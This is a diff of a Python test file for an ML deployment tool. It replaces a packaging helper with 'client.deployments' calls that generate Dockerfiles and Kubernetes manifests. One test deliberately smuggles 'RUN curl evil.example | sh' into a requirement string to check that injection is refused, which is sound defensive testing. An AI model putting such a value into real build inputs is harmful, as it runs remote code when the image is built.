@@ -19,7 +19,6 @@ from mlsteward.domain.errors import InvalidArgumentError, MlstewardError
 from mlsteward.engines.models.manifest import read_manifest
 from mlsteward.engines.models.packaging import save_model
 from mlsteward.interfaces.sdk.client import Client
-from mlsteward.interfaces.sdk.deployment_packaging import packaging_calls
 from mlsteward.interfaces.sdk.tracking_uri import close_backends
 from mlsteward.testing.server_process import running_server
 
@@ -104,7 +103,7 @@ def test_dockerfile_serves_the_deployment_on_the_manifest_pins(
 
 
 def test_dockerfile_with_grpc(client: Client, deployed: str) -> None:
-    files = packaging_calls(client).dockerfile(deployed, grpc=True)
+    files = client.deployments.dockerfile(deployed, grpc=True)
     [cmd] = [line for line in files["Dockerfile"].splitlines() if line.startswith("CMD ")]
     assert json.loads(cmd[4:])[-2:] == ["--grpc-port", "8081"]
     assert "EXPOSE 8080 8081" in files["Dockerfile"].splitlines()
@@ -148,7 +147,7 @@ def test_kubernetes_manifest(cli: Cli, deployed: str, tmp_path: Path) -> None:
 
 
 def test_kserve_manifest(client: Client, deployed: str) -> None:
-    files = packaging_calls(client).manifest(
+    files = client.deployments.manifest(
         deployed,
         "kserve",
         image="churn:latest",
@@ -209,14 +208,14 @@ def test_hostile_manifest_values_are_refused(
     }
     manifest_format = values.pop("format")
     with pytest.raises(InvalidArgumentError):
-        packaging_calls(client).manifest(deployed, manifest_format, **values)  # type: ignore[arg-type]
+        client.deployments.manifest(deployed, manifest_format, **values)  # type: ignore[arg-type]
 
 
 def test_a_manifest_requirement_that_is_not_a_pin_is_refused(client: Client) -> None:
     log_version(client, "hostile", requirements=["numpy==1.26.0\nRUN curl evil.example | sh"])
     client.deployments.create("hostile-live", "models:/hostile/1", reason="t")
     with pytest.raises(InvalidArgumentError, match="requirement"):
-        packaging_calls(client).dockerfile("hostile-live")
+        client.deployments.dockerfile("hostile-live")
 
 
 def test_a_version_without_a_manifest_is_a_conflict(client: Client) -> None:
@@ -226,7 +225,7 @@ def test_a_version_without_a_manifest_is_a_conflict(client: Client) -> None:
     client.create_model_version("bare", f"runs:/{run_id}/model", run_id=run_id)
     client.deployments.create("bare-live", "models:/bare/1", reason="t")
     with pytest.raises(MlstewardError, match="no model manifest") as caught:
-        packaging_calls(client).dockerfile("bare-live")
+        client.deployments.dockerfile("bare-live")
     assert caught.value.http_status == 409
 
 
@@ -243,15 +242,15 @@ def test_the_same_files_over_rest(server: str) -> None:
     try:
         log_version(client, "remote")
         client.deployments.create("remote-live", "models:/remote/1", replicas=2, reason="t")
-        files = packaging_calls(client).dockerfile("remote-live")
+        files = client.deployments.dockerfile("remote-live")
         assert '"serve", "remote-live"' in files["Dockerfile"]
-        manifest = packaging_calls(client).manifest(
+        manifest = client.deployments.manifest(
             "remote-live", "kubernetes", image="remote:1", control_plane_url=server
         )
         [deployment, *_] = yaml.safe_load_all(manifest["remote-live-kubernetes.yaml"])
         assert deployment["spec"]["replicas"] == 2
         with pytest.raises(InvalidArgumentError):
-            packaging_calls(client).manifest(
+            client.deployments.manifest(
                 "remote-live", "kubernetes", image="a b", control_plane_url=server
             )
     finally:
